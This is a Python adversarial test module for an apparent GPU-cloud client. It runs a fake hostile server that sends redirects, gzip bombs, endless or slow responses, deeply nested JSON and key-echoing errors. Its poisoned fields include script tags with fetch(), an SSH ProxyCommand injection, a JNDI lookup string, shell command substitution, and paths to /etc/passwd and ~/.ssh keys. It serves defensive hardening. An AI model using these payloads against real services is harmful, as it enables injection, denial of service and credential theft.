"""A cloud whose answers are poisoned, slow, endless or elsewhere, against the real client and providers."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import socket
import time
from typing import TYPE_CHECKING, Any

from pydantic import SecretStr

from gpunb.errors import GpunbError, OutcomeUnknown, ProviderError
from gpunb.providers import CreateSpec, OfferQuery, ProviderConfig
from gpunb.providers.http import ApiClient
from tests.attack.frame import KEYS, Escaped, Place, case
from tests.attack.hostile.liars import raw

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

KEY = KEYS["account"]
EVIL = "\x1b]0;owned\x07\x1b[2J\u202e<script>fetch('{url}')</script><img src=x onerror=fetch('{url}')>"


def head(client: socket.socket) -> bytes:
    """One request, with its body."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = client.recv(65536)
        if not more:
            raise EOFError
        data += more
    top, _, body = data.partition(b"\r\n\r\n")
    for line in top.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            while len(body) < int(line.split(b":")[1]):
                body += client.recv(65536)
    return top


def plain(body: bytes, status: str = "200 OK", *headers: str) -> bytes:
    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", "Content-Type: application/json", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def says(place: Place, answer: bytes | Callable[[socket.socket], None]) -> str:
    """The address of a cloud that always answers so."""

    def talk(client: socket.socket) -> None:
        while True:
            head(client)
            if callable(answer):
                answer(client)
                return
            client.sendall(answer)

    port = place.use(raw(place, talk))
    return f"http://127.0.0.1:{port}"


def api(place: Place, answer: bytes | Callable[[socket.socket], None], **more: Any) -> ApiClient:
    facts: dict[str, Any] = {"deadline_s": 4.0, "attempts": 1}
    client = ApiClient(
        provider="vast", title="Vast.ai", base_url=says(place, answer), key=SecretStr(KEY), **(facts | more)
    )
    place.stack.callback(client.close)
    return client


def get(place: Place, answer: bytes | Callable[[socket.socket], None], **more: Any) -> str:
    found = api(place, answer, **more).call("GET", "/offers", expect=None)
    return f"taken: {str(found)[:80]}"


def clouds(url: str) -> Iterator[Any]:
    from gpunb.providers.deepinfra import DeepInfraProvider
    from gpunb.providers.fluence import FluenceProvider
    from gpunb.providers.sesterce import SesterceProvider
    from gpunb.providers.vast import VastProvider

    for kind in (VastProvider, DeepInfraProvider, FluenceProvider, SesterceProvider):
        config = ProviderConfig(base_url=url, key=SecretStr(KEY), options={"pace": 0.001})
        provider: Any = kind(config)
        try:
            yield provider
        finally:
            provider.close()


def every_cloud(place: Place, body: bytes, act: Callable[[Any], Any]) -> str:
    """What the four providers make of an answer: offers or one clear error each."""
    return ", ".join(_made_of_it(provider, act) for provider in clouds(says(place, plain(body))))


def _made_of_it(provider: Any, act: Callable[[Any], Any]) -> str:
    try:
        found = act(provider)
    except GpunbError as err:
        line = err.lines()[0]
        if not line.isprintable() or len(line) > 900 or KEY in line:
            raise Escaped(f"{provider.name}: {line[:300]!r}") from err
        return f"{provider.name} {type(err).__name__}"
    return f"{provider.name} {len(found) if hasattr(found, '__len__') else 'ok'}"


def search(provider: Any) -> Any:
    found = provider.search(OfferQuery())
    for offer in found:
        assert 0 <= offer.usd_h < 1e6, offer
        assert str(offer.gpu).isprintable()
    return found


# -- where it sends us


def redirect(place: Place, status: str, method: str) -> None:
    answer = plain(b"", status, f"Location: {place.url}")
    api(place, answer).call(method, "/offers", json={} if method != "GET" else None)


@case("it redirects a question to another host", "redirects GET /offers .* does not follow")
def _(place: Place) -> None:
    redirect(place, "302 Found", "GET")


@case("it redirects an order, body and all", "redirects PUT /offers .* does not follow")
def _(place: Place) -> None:
    redirect(place, "307 Temporary Redirect", "PUT")


@case("a redirect whose address has line ends and escapes", "(redirects|broke|can't be read)")
def _(place: Place) -> None:
    answer = b"HTTP/1.1 302 Found\r\nLocation: http://x\x1b[2J/\x07\xff\r\nContent-Length: 0\r\n\r\n"
    get(place, answer)


@case("a result's address in clear, elsewhere", "result address that is not https")
def _(place: Place) -> None:
    api(place, plain(b"{}")).download(place.url)


@case("a result's address on this machine's disk", "result address that is not https")
def _(place: Place) -> None:
    api(place, plain(b"{}")).download(f"file://{place.root}/home/.ssh/id_ed25519")


@case("a result fetched from the cloud itself comes without the key", "^fetched without the key$")
def _(place: Place) -> str:
    asked: list[bytes] = []

    def talk(client: socket.socket) -> None:
        asked.append(head(client))
        client.sendall(plain(b"log"))

    port = place.use(raw(place, talk))
    url = f"http://127.0.0.1:{port}"
    client = ApiClient(provider="vast", title="Vast.ai", base_url=url, key=SecretStr(KEY))
    place.stack.callback(client.close)
    client.download(f"{url}/results/1")
    if KEY.encode() in asked[0]:
        raise Escaped("the key went along")
    return "fetched without the key"


@case("an address in clear for an account's key", "must be https")
def _(place: Place) -> None:
    ApiClient(provider="vast", title="Vast.ai", base_url="http://evil.example", key=SecretStr(KEY))


# -- how much


@case("gzip in gzip (1 kB that would be 10 GB)", "compressed as .*gzip, ?gzip")
def _(place: Place) -> str:
    bomb = gzip.compress(gzip.compress(b"0" * 2**26))
    return get(place, plain(bomb, "200 OK", "Content-Encoding: gzip, gzip"))


@case("a gzip bomb", "is larger than 33554432 bytes")
def _(place: Place) -> str:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb") as file:
        for _ in range(600):
            file.write(b"0" * 2**20)
    return get(place, plain(out.getvalue(), "200 OK", "Content-Encoding: gzip"), deadline_s=20.0)


@case("a compression that nobody asked for", "compressed as 'zstd'")
def _(place: Place) -> str:
    return get(place, plain(b"\x28\xb5\x2f\xfd" + b"x" * 100, "200 OK", "Content-Encoding: zstd"))


@case("damaged compression", "compression is damaged")
def _(place: Place) -> str:
    return get(place, plain(b"\x1f\x8b\x08\0garbage", "200 OK", "Content-Encoding: gzip"))


def chunks(client: socket.socket, piece: bytes, count: int) -> None:
    client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
    for _ in range(count):
        client.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))


@case("a body that does not end", "is larger than 33554432 bytes")
def _(place: Place) -> str:
    return get(place, lambda client: chunks(client, b" " * 2**20, 10**9), deadline_s=30.0)


@case("a million empty lists (30 MB that would be 1 GB)", "more than 1000000")
def _(place: Place) -> str:
    return get(place, plain(b"[" + b"[]," * 10_000_000 + b"[]]"), deadline_s=30.0)


@case("JSON 100,000 levels deep", "is not JSON")
def _(place: Place) -> str:
    return get(place, plain(b"[" * 100_000 + b"]" * 100_000))


@case("objects 100,000 levels deep", "is not JSON")
def _(place: Place) -> str:
    return get(place, plain(b'{"a":' * 100_000 + b"1" + b"}" * 100_000))


@case("a number of a million digits", "(is not JSON|^taken: )")
def _(place: Place) -> str:
    return get(place, plain(b'{"price": ' + b"9" * 10**6 + b"}"))


@case("100 MB of headers", "(broke in|did not answer)")
def _(place: Place) -> str:
    def talk(client: socket.socket) -> None:
        client.sendall(b"HTTP/1.1 200 OK\r\n")
        for number in range(10**6):
            client.sendall(b"X-%d: %s\r\n" % (number, b"x" * 1000))

    return get(place, talk)


# -- how slow


def drip(client: socket.socket, data: bytes) -> None:
    for letter in data:
        client.sendall(bytes([letter]))
        time.sleep(0.2)


@case("headers of five bytes a second", "did not answer GET /offers within [234] s")
def _(place: Place) -> str:
    return get(place, lambda client: drip(client, b"HTTP/1.1 200 OK\r\nX: " + b"x" * 1000), deadline_s=2.5)


@case("a body of five bytes a second", "did not answer GET /offers within [234] s")
def _(place: Place) -> str:
    def talk(client: socket.socket) -> None:
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        drip(client, b"x" * 1000)

    return get(place, talk, deadline_s=2.5)


@case("chunks whose sizes come byte by byte", "did not answer GET /offers within [234] s")
def _(place: Place) -> str:
    def talk(client: socket.socket) -> None:
        client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        drip(client, b"1;" + b"x" * 1000)

    return get(place, talk, deadline_s=2.5)


@case("'100 Continue' without end", "(did not answer|broke in)")
def _(place: Place) -> str:
    def talk(client: socket.socket) -> None:
        while True:
            client.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")
            time.sleep(0.05)

    return get(place, talk, deadline_s=2.5)


@case("nothing at all, to an order: not sent twice", "did not answer PUT /asks/1/")
def _(place: Place) -> None:
    came: list[bytes] = []

    def talk(client: socket.socket) -> None:
        came.append(head(client))
        time.sleep(20)

    port = place.use(raw(place, talk))
    client = ApiClient(
        provider="vast",
        title="Vast.ai",
        base_url=f"http://127.0.0.1:{port}",
        key=SecretStr(KEY),
        deadline_s=2,
    )
    place.stack.callback(client.close)
    try:
        client.call("PUT", "/asks/1/", json={})
    except OutcomeUnknown:
        if len(came) != 1:
            raise Escaped(f"{len(came)} orders were sent") from None
        raise


@case("'come again in a thousand years'", "answered 429")
def _(place: Place) -> str:
    return get(place, plain(b"{}", "429 Too Many", "Retry-After: 31536000000"), attempts=3)


@case("'come again in NaN seconds', then minus infinity", "answered 503")
def _(place: Place) -> str:
    with contextlib.suppress(ProviderError):
        get(place, plain(b"{}", "503 Busy", "Retry-After: nan"))
    return get(place, plain(b"{}", "503 Busy", "Retry-After: -inf"))


# -- what it says


@case("an error that repeats the key, at every depth", r"answered 401 .*\*\*\*")
def _(place: Place) -> None:
    nested: dict[str, Any] = {"msg": f"key {KEY} is bad", "in": {"in": {"token": KEY}}}
    try:
        get(place, plain(json.dumps(nested).encode(), "401 No"))
    except GpunbError as err:
        text = f"{err!r} {err} {err.__cause__!r} {err.hint}"
        if KEY in text:
            raise Escaped(text[:300]) from err
        raise


@case("an error page with scripts and escapes", "answered 500")
def _(place: Place) -> str:
    page = f"<html>{EVIL.replace('{url}', place.url)}</html>".encode() * 1000
    return get(place, plain(page, "500 Oops"))


@case("an error message of a megabyte", "answered 400")
def _(place: Place) -> str:
    return get(place, plain(json.dumps({"msg": EVIL * 20_000}).encode(), "400 No"))


@case("a status that is none", "(broke in|answered 9)")
def _(place: Place) -> str:
    return get(place, plain(b"{}", "999 Whatever"))


@case("bytes that are not HTTP", "broke in GET /offers")
def _(place: Place) -> str:
    return get(place, b"\0\xff" * 1000)


@case("it hangs up in the middle", "broke in GET /offers")
def _(place: Place) -> str:
    return get(place, lambda client: client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n{"))


@case("the same field twice, NaN and 1e308", "^taken: ")
def _(place: Place) -> str:
    return get(place, b"".join([plain(b'{"a": 1, "a": NaN, "b": 1e308, "c": -Infinity}')]))


SHAPES: dict[str, bytes] = {
    "null": b"null",
    "a number": b"1e400",
    "a text": b'"offers"',
    "an empty list": b"[]",
    "a list of nulls": json.dumps([None] * 1000).encode(),
    "lists for rows": json.dumps({"offers": [[[]]] * 100, "containers": [[]], "data": [[]]}).encode(),
    "numbers for rows": json.dumps({"offers": [1, -1, 1e308], "gpus": [1], "data": {"a": 1}}).encode(),
    "texts for objects": json.dumps({"offers": "x" * 10_000, "data": "y", "instances": "z"}).encode(),
}


@case("answers of every wrong shape, at four clouds", "^8 shapes, 4 clouds: all clear$")
def _(place: Place) -> str:
    for body in SHAPES.values():
        every_cloud(place, body, search)
        every_cloud(place, body, lambda cloud: cloud.instances())
        every_cloud(place, body, lambda cloud: cloud.get("1"))
    return f"{len(SHAPES)} shapes, 4 clouds: all clear"


def rows() -> Iterator[tuple[str, Any]]:
    """Odd values for any field."""
    yield from {
        "escapes": EVIL, "megabyte": "A" * 10**6, "nan": float("nan"), "inf": float("inf"), "minus": -1e308,
        "big": 10**300, "deep": json.loads("[" * 150 + "]" * 150), "null": None,
        "object": {"$gt": ""}, "bool": True, "path": "../../../etc/passwd",
        "option": "-oProxyCommand=touch /tmp/x", "format": "{0.__class__} %s%n",
        "template": "${jndi:ldap://x} $(touch x) `touch x`",
    }.items()  # fmt: skip


GOOD = {
    "id": 7, "ask_contract_id": 7, "gpu_name": "RTX 4090", "num_gpus": 1, "dph_base": 0.4, "dph_total": 0.4,
    "gpu_ram": 24000, "disk_space": 100.0, "storage_cost": 0.1, "rentable": True, "verification": "verified",
    "geolocation": "Sweden, SE", "inet_up_cost": 0.0, "inet_down_cost": 0.0, "reliability2": 0.99,
    "machine_id": 1, "host_id": 1, "inet_down": 100.0, "inet_up": 100.0, "cpu_cores": 8, "cpu_ram": 64000,
}  # fmt: skip


@case("each field of an offer poisoned in 14 ways", "^[0-9]+ poisoned offers, each good one still there$")
def _(place: Place) -> str:
    from gpunb.providers.vast.offers import map_offers

    count = 0
    for field in GOOD:
        for _, value in rows():
            found = map_offers([{**GOOD, field: value}, {**GOOD, "id": 8}], rental="on-demand")
            if "8" not in {offer.id for offer in found}:
                raise Escaped(f"{field}={str(value)[:50]} took the good offer along")
            for offer in found:
                shown = f"{offer.gpu} {offer.region} {offer.country} {offer.id} {offer.cpu}"
                if not shown.isprintable() or not 0 <= offer.usd_h < 1e6 or len(shown) > 2000:
                    raise Escaped(f"{field}={str(value)[:50]}: {shown[:200]!r} {offer.usd_h}")
            count += 1
    return f"{count} poisoned offers, each good one still there"


@case("an instance whose address is an option of ssh's", "^(host|user|port) ")
def _(place: Place) -> None:
    from gpunb.providers.vast.instances import map_instance
    from gpunb.ssh import Endpoint

    row = {
        "id": 7, "actual_status": "running", "cur_state": "running", "intended_status": "running",
        "ssh_host": f"-oProxyCommand=touch${{IFS}}{place.touched}", "ssh_port": 22, "public_ipaddr": "x y",
        "image_runtype": "ssh_proxy",
    }  # fmt: skip
    instance = map_instance(row)
    Endpoint(
        host=instance.host or "", port=instance.port, user=instance.user,
        key=place.mine / "k", known_hosts=place.mine / "h", alias="gpunb-x",
    )  # fmt: skip


@case("poisoned offers at the terminal and in the notebook", "^shown twice, harmless$")
def _(place: Place) -> str:
    from contextlib import redirect_stderr, redirect_stdout

    from gpunb.cli.main import invoke, run
    from tests.support.rentals.clouds import simulated

    simulation = place.use(simulated(("vast",), real=False))
    cloud: Any = simulation["vast"]
    evil = EVIL.replace("{url}", place.url)
    odd = [row for row in cloud.offers.values() if row["rentable"]][:6]
    for row, field in zip(
        odd, ("gpu_name", "geolocation", "cpu_name", "verification", "id", "hosting_type"), strict=True
    ):
        row[field] = evil
    out = io.StringIO()
    with redirect_stdout(out), redirect_stderr(out):
        code = run(["offers", "--cloud", "vast", "-n", "1000", "--why"])
    text = out.getvalue()
    page = invoke("offers --cloud vast -n 1000 --why").html()
    for sign in ("\x1b", "\x07", "\u202e"):
        if sign in text or sign in page:
            raise Escaped(repr(sign))
    if "<script" in page or "<img" in page or code != 0:
        raise Escaped(f"{code} {text[-500:]}")
    return "shown twice, harmless"


@case("a create answered with somebody else's number", "took the order .* named no instance")
def _(place: Place) -> str:
    body = json.dumps({"success": True, "new_contract": "../../v0/users/current", "id": "../x"}).encode()
    spec = CreateSpec(label="gpunb-x", public_key="ssh-ed25519 AAAA x", disk_gb=10)
    provider = next(clouds(says(place, plain(body))))
    from gpunb.providers.vast.offers import map_offers

    made = provider.create(map_offers([GOOD], rental="on-demand")[0], spec)
    return f"an instance called {made.id}"
